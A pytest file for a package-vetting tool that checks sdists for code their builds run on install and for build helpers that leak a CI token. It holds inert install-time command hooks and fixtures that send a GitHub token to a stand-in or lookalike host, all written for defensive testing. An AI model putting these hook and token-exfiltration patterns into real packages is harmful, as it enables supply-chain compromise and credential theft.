"""Code an sdist's build runs from its own files (ADR 0057): modules an in-tree build
backend or ``setup.py`` imports from the folders the build puts on ``sys.path``, and a
script ``setup.py`` starts with the interpreter. Each ran an (inert) command on install and
was read as a developer's script before."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist

RUNS = "import os\nos.system('id')\n"
BACKEND = (
    "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n"
    "[project]\nname = 'evpkg'\nversion = '1.0'\n"
)
SETUP_END = "from setuptools import setup\nsetup(name='evpkg')\n"

CASES = {
    "backend-imports-its-sibling": {
        "pyproject.toml": BACKEND,
        "_build/backend.py": "import impl\n\n\ndef build_wheel(*a, **k):\n    return impl.go()\n",
        "_build/impl.py": RUNS + "\n\ndef go():\n    return ''\n",
    },
    "backend-calls-a-sibling-function": {
        "pyproject.toml": BACKEND,
        "_build/backend.py": "from impl import go as build_wheel\n",
        "_build/impl.py": "import os\n\n\ndef go(*a):\n    os.system('id')\n",
    },
    "setup-imports-from-a-folder-it-puts-on-the-path": {
        "setup.py": "import sys\nsys.path.insert(0, 'tools')\nimport helper\n" + SETUP_END,
        "tools/helper.py": RUNS,
    },
    "setup-runs-a-script-with-the-interpreter": {
        "setup.py": "import subprocess, sys\nsubprocess.check_call([sys.executable, '-u', "
        "'tools/gen.py'])\n" + SETUP_END,
        "tools/gen.py": RUNS,
    },
}


@pytest.mark.parametrize("key", sorted(CASES))
def test_code_the_build_runs_from_the_sdist_is_not_allowed(key: str) -> None:
    report = vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", {**CASES[key], "evpkg/__init__.py": ""}))
    assert report.verdict is not Outcome.ALLOW, report.to_json()


def test_a_script_the_build_does_not_run_stays_a_script() -> None:
    files = {
        "setup.py": "import sys\nsubprocess_args = [sys.executable]\n" + SETUP_END,
        "tools/gen.py": "import os\n\n\ndef main():\n    os.system('id')\n",
        "evpkg/__init__.py": "",
    }
    assert vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", files)).verdict is Outcome.ALLOW


# A build helper that fetches prebuilt libraries from its own project's releases, signing in
# to the API with the token CI sets (ADR 0067): a service client, not a stealer. Read as code
# run on install it holds (it downloads at install), but sends no secret away.
FETCH = """import json
import os
from urllib.request import Request, urlopen


def read_url(url, accept=None, token=None):
    headers = {"User-Agent": "evpkg-build"}
    if accept:
        headers["Accept"] = accept
    if token:
        headers["authorization"] = "Bearer " + token
    return json.loads(urlopen(Request(url, headers=headers)).read())


def fetch(dest):
    releases = read_url(
        "https://api.github.com/repos/evpkg/binaries/releases",
        accept="application/vnd.github+json",
        token=os.environ.get("GITHUB_API_TOKEN"),
    )
    for release in releases:
        with open(os.path.join(dest, "lib.zip"), "wb") as f:
            f.write(urlopen(release["url"]).read())
"""
HELPER_SETUP = "import sys\nsys.path.insert(0, 'tools')\nimport fetch\nfetch.fetch('build')\n"


def _vet_helper(helper: str) -> Outcome:
    files = {
        "setup.py": HELPER_SETUP + SETUP_END,
        "tools/fetch.py": helper,
        "evpkg/__init__.py": "",
    }
    return vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", files)).verdict


def test_a_build_helper_signing_in_to_its_own_service_holds_and_is_not_denied() -> None:
    assert _vet_helper(FETCH) is Outcome.HOLD


STOLEN = {
    # The same header, to a host that is not the one the token is for.
    "header-to-another-host": FETCH.replace("api.github.com", "github.example.invalid"),
    "header-to-a-lookalike-subdomain": FETCH.replace("api.github.com", "api.github.com.example"),
    # The token in the body or the URL of a request to the service itself.
    "token-in-the-url": FETCH.replace(
        '"https://api.github.com/repos/evpkg/binaries/releases"',
        '"https://api.github.com/?t=" + os.environ["GITHUB_API_TOKEN"]',
    ),
    "token-under-another-header-name": FETCH.replace('"authorization"', '"X-Data"'),
    # A name that says nothing of the service it is for.
    "token-named-for-no-service": FETCH.replace("GITHUB_API_TOKEN", "API_TOKEN"),
}


@pytest.mark.parametrize("key", sorted(STOLEN))
def test_a_credential_sent_anywhere_but_its_service_in_a_header_is_denied(key: str) -> None:
    assert _vet_helper(STOLEN[key]) is Outcome.DENY
